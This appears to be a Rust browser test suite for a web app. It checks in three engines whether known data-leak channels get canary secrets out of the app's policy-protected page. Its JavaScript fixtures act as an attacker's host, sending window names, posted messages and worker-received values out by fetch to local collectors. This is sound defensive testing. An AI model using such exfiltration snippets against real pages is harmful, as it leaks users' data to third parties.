//! Every way out of our page that we know, tried in the page as it is delivered and in a page without any policy.
//!
//! `attacks/channels.js` has the ways, `attacks/channels.csv` what is expected of each in each engine: `closed`, `open`,
//! or `none` where the engine has no such thing, so that not even the page without policy leaks. Any difference
//! fails, also one for the better. After reading it, `HSMP_BLESS=1` writes what was found into the table and into
//! docs/THREAT-MODEL.md.

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use journeys::attacks::{Channel, Outcome, Table};
use journeys::{By, Collector, Engine, Setting, Visit, delivery_with, engines, in_browser};
use serde_json::{Value, json};

/// What the page without policy has.
const OPEN_HOST: &[(&str, &str, &str)] =
    &[("/robots.txt", "text/plain", "x"), ("/missing", "text/plain", "x"), ("/attack-worker.js", "text/javascript", WORKER)];

/// What the attacker's host has, beside empty pages.
const AWAY: &[(&str, &str, &str)] = &[("/name", "text/html", SAYS_NAME), ("/opener", "text/html", LISTENS)];

/// Tells the name that the window has, whoever gave it.
const SAYS_NAME: &str = "<!doctype html><script>fetch('/told-' + window.name)</script>";

/// Opens a page on a click, and tells what that says to it.
const LISTENS: &str = "<!doctype html><p>x</p><script>
    onclick = () => open(location.hash.slice(1));
    onmessage = (e) => fetch('/told-' + e.data);
    new BroadcastChannel('leak').onmessage = onmessage;
</script>";

/// A script of ours that asks for what it is told, in each kind of worker.
const WORKER: &str = "const tell = (url) => fetch(url, { mode: 'no-cors' });
if (self.name) tell(self.name);
self.onmessage = (e) => tell(e.data);";

/// How long a channel may take that leaks. More than any was seen to take; on a page that has our policy a channel
/// gets as long as it took on the one without, and this much more.
const SLOWEST: Duration = Duration::from_millis(2500);
const MARGIN: Duration = Duration::from_millis(500);

/// How long one gets that the table says leaks, which ends with the leak: a busy machine is slow.
const EXPECTED: Duration = Duration::from_secs(15);

const PACE: Duration = Duration::from_millis(20);

#[test]
fn chromium_lets_out_what_the_table_says() {
    try_all(Engine::Chromium);
}

#[test]
fn firefox_lets_out_what_the_table_says() {
    try_all(Engine::Firefox);
}

#[test]
fn webkit_lets_out_what_the_table_says() {
    try_all(Engine::WebKit);
}

/// What people read is what was found.
#[test]
fn the_threat_model_has_the_table() {
    Table::read().check_document();
}

/// Tries all channels in both pages, and compares with the table.
fn try_all(engine: Engine) {
    if !engines().contains(&engine) {
        return;
    }
    let folder = delivery_with(&format!("attacks-{engine:?}"), &[("attack-worker.js", WORKER)]);
    let setting = Setting { folder, worker: true, ..Setting::default() };
    let table = Table::read();
    let (together, alone): (Vec<&Channel>, Vec<&Channel>) = table.channels.iter().partition(|channel| channel.together);
    let groups: Vec<Vec<&Channel>> = std::iter::once(together).chain(alone.into_iter().map(|channel| vec![channel])).collect();
    // What one attack leaves behind can keep WebKit's driver from ever seeing the next page.
    let in_one_browser = if engine == Engine::WebKit { 1 } else { groups.len() };
    let found = RefCell::new(BTreeMap::new());
    for groups in groups.chunks(in_one_browser) {
        in_browser(engine, &setting, async |visit| {
            for channels in groups {
                let outcomes = attempt(visit, channels).await;
                found.borrow_mut().extend(outcomes);
            }
        });
    }
    table.settle(engine, &found.into_inner());
}

/// Where an attack happens.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    /// On a page without any policy.
    Open,
    /// On our page, once it has started.
    Ours,
}

/// Tries channels at once, on the page without policy and on ours. Each has a host of its own to tell, so that what
/// comes there can have come by it alone.
async fn attempt(visit: &Visit, channels: &[&Channel]) -> BTreeMap<String, Outcome> {
    let host = Collector::start(OPEN_HOST).await;
    let all_are = |outcomes: &[Outcome]| channels.iter().all(|channel| outcomes.contains(&channel.expected(visit.engine)));
    let patience = if all_are(&[Outcome::Open, Outcome::Closed]) { EXPECTED } else { SLOWEST };
    let (open, took) = tell(visit, Place::Open, &host, channels, patience).await;
    let patience = if all_are(&[Outcome::Open]) { EXPECTED } else { took + MARGIN };
    let (ours, _) = tell(visit, Place::Ours, &host, channels, patience).await;
    let outcome = |(channel, (open, ours)): (&&Channel, (bool, bool))| {
        let outcome = match (open, ours) {
            (true, true) => Outcome::Open,
            (true, false) => Outcome::Closed,
            (false, false) => Outcome::None,
            (false, true) => panic!("'{}' leaks on our page and not on one without a policy", channel.name),
        };
        (channel.name.clone(), outcome)
    };
    channels.iter().zip(open.into_iter().zip(ours)).map(outcome).collect()
}

/// Tries channels on one page. Returns which have leaked, and how long the slowest took.
async fn tell(visit: &Visit, place: Place, host: &Collector, channels: &[&Channel], patience: Duration) -> (Vec<bool>, Duration) {
    let page = if place == Place::Ours { visit.server.url() } else { format!("http://127.0.0.1:{}/", host.port) };
    let mut hosts = Vec::new();
    let mut tries = Vec::new();
    for channel in channels {
        let away = Collector::start(AWAY).await;
        let secret = format!("canary-{}", channel.name);
        tries.push(json!([channel.name, {
            "secret": secret,
            "away": format!("http://localhost:{}/{secret}", away.port),
            "page": format!("http://localhost:{}/name", away.port),
            "peer": format!("127.0.0.1:{}", away.port),
            "own": format!("{page}?{secret}"),
            "file": format!("{page}robots.txt"),
            "missing": format!("{page}missing"),
            "worker": format!("{page}attack-worker.js"),
        }]));
        hosts.push(away);
    }
    let before = visit.browser.windows().await.unwrap();
    let first = begin(visit, place, &page, channels, &hosts).await;
    let script = format!(
        "{}; const tries = arguments[0];
        document.addEventListener('click', (event) => {{
            event.preventDefault();
            for (const [name, to] of tries) {{
                try {{ Promise.resolve(window.channels[name](to)).catch(() => {{}}); }} catch {{}}
            }}
        }}, {{ once: true, capture: true }});",
        include_str!("../attacks/channels.js")
    );
    visit.browser.execute(script, vec![Value::Array(tries)]).await.unwrap();
    visit.server.clear_log();
    host.clear();
    hosts.iter().filter(|_| !channels.iter().any(|channel| channel.name.starts_with("opener-"))).for_each(Collector::clear);
    // A real click: what follows from it has what a browser grants to a person.
    let began = Instant::now();
    let heading = "return [...document.querySelectorAll('h1')].find((e) => e.checkVisibility());";
    let heading = visit.browser.execute(heading, Vec::new()).await.unwrap().element().unwrap();
    heading.click().await.unwrap_or_else(|error| panic!("nothing was tried: {error}"));
    let mut leaked = vec![false; channels.len()];
    let mut slowest = Duration::ZERO;
    while began.elapsed() < patience && !leaked.iter().all(|leak| *leak) {
        tokio::time::sleep(PACE).await;
        for (number, channel) in channels.iter().enumerate() {
            if !leaked[number] && told(visit, place, host, &hosts[number], channel) {
                leaked[number] = true;
                slowest = began.elapsed();
            }
        }
    }
    leave(visit, &before, first).await;
    (leaked, slowest)
}

/// Goes to the page of an attack, directly or by a foreign page that opens it. Returns the window to come back to.
async fn begin(visit: &Visit, place: Place, page: &str, channels: &[&Channel], hosts: &[Collector]) -> journeys::WindowHandle {
    let first = visit.browser.window().await.unwrap();
    if channels.iter().any(|channel| channel.name.starts_with("opener-")) {
        visit.browser.goto(format!("http://localhost:{}/opener#{page}", hosts[0].port)).await.unwrap();
        visit.browser.find(By::Css("p")).await.unwrap().click().await.unwrap();
        let opened = visit.another_window(std::slice::from_ref(&first)).await;
        visit.browser.switch_to_window(opened).await.unwrap();
    } else {
        visit.browser.goto(page).await.unwrap();
    }
    match place {
        Place::Ours => visit.until("document.documentElement.dataset.app === 'started'").await,
        Place::Open => visit.until("document.querySelector('h1')").await,
    }
    first
}

/// Whether the secret of a channel has come somewhere.
fn told(visit: &Visit, place: Place, host: &Collector, away: &Collector, channel: &Channel) -> bool {
    let secret = format!("canary-{}", channel.name);
    let own = if place == Place::Ours { format!("{:?}", visit.server.log()) } else { host.came().concat() };
    let came = away.came();
    // What is no request of HTTP tells that somebody is there, which is enough.
    own.contains(&secret) || came.iter().any(|text| text.contains(&secret)) || (channel.silent && !came.is_empty())
}

/// Closes what an attack has opened, and leaves its page.
async fn leave(visit: &Visit, before: &[journeys::WindowHandle], first: journeys::WindowHandle) {
    for window in visit.browser.windows().await.unwrap_or_default() {
        if !before.contains(&window) && visit.browser.switch_to_window(window).await.is_ok() {
            visit.browser.close_window().await.ok();
        }
    }
    visit.browser.switch_to_window(first).await.unwrap();
    // Cookies know no ports: one of the page without policy would come along to ours.
    visit.browser.delete_all_cookies().await.ok();
    visit.browser.goto("about:blank").await.ok();
    visit.browser.delete_all_cookies().await.ok();
}
